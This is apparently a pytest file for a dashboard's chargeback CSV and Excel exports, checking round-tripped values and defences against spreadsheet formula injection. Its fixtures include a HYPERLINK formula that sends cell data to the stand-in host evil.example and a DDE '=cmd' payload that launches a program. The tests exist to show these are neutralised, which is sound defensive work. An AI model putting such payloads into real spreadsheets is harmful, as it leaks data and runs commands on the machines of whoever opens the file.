"""The chargeback downloads: CSV and Excel hold exactly the lines shown."""

import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal

import polars as pl

from dashboards.exports import csv_bytes, excel_bytes

LINES = pl.DataFrame(
    {
        "cost_centre": ["CC-A", "unattributed"],
        "person": ["ünïcode, \"quoted\"", "unattributed"],
        "gpu_uuids": [["GPU-1", "GPU-2"], None],
        "start_ts": [datetime(2026, 1, 5, 8), datetime(2026, 1, 5, 9)],
        "amount": [Decimal("12.34"), Decimal("0.01")],
    },
    schema_overrides={"amount": pl.Decimal(18, 2)},
)


def test_csv_round_trips_the_lines():
    back = pl.read_csv(io.BytesIO(csv_bytes(LINES)), try_parse_dates=True)
    assert back["person"].to_list() == LINES["person"].to_list()
    assert back["gpu_uuids"].to_list() == ["GPU-1;GPU-2", None]
    assert back["amount"].to_list() == [12.34, 0.01]
    assert back["start_ts"].to_list() == LINES["start_ts"].to_list()


def test_excel_has_one_sheet_per_table_with_the_values():
    book = zipfile.ZipFile(io.BytesIO(excel_bytes({"By cost centre": LINES,
                                                   "Invoice lines": LINES.head(1)})))
    workbook = book.read("xl/workbook.xml").decode()
    assert re.findall(r'<sheet name="([^"]+)"', workbook) == ["By cost centre", "Invoice lines"]
    first = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<v>12.34</v>" in first
    assert "<v>0.01</v>" in first
    strings = book.read("xl/sharedStrings.xml").decode()
    assert "GPU-1;GPU-2" in strings
    assert "unattributed" in strings


# the probe's job name (issue #28): a live formula once a spreadsheet opens the file
INJECTED = '=HYPERLINK("https://evil.example/?"&A1,"Open invoice")'
NASTY = pl.DataFrame({
    "name": [INJECTED, "@SUM(A1)", "+1+2", "-3", "\tTAB", "plain"],
    "team": ["ok", "ok", "ok", "ok", "ok", "=cmd|' /C calc'!A0"],
    "amount": [Decimal("-1.50"), Decimal("2"), Decimal("3"), Decimal("4"), Decimal("5"),
               Decimal("6")],
}, schema_overrides={"amount": pl.Decimal(18, 2)})


def test_csv_text_a_spreadsheet_would_evaluate_starts_with_an_apostrophe():
    back = pl.read_csv(io.BytesIO(csv_bytes(NASTY)))
    assert back["name"].to_list() == [f"'{INJECTED}", "'@SUM(A1)", "'+1+2", "'-3", "'\tTAB",
                                      "plain"]
    assert back["team"].to_list()[-1] == "'=cmd|' /C calc'!A0"
    assert back["amount"].to_list()[0] == -1.5  # numbers stay numbers


def test_excel_never_holds_a_formula_from_text():
    book = zipfile.ZipFile(io.BytesIO(excel_bytes({"Lines": NASTY})))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula cell
    strings = book.read("xl/sharedStrings.xml").decode()
    assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
    assert "<v>-1.50</v>" in sheet  # a number cell, not text
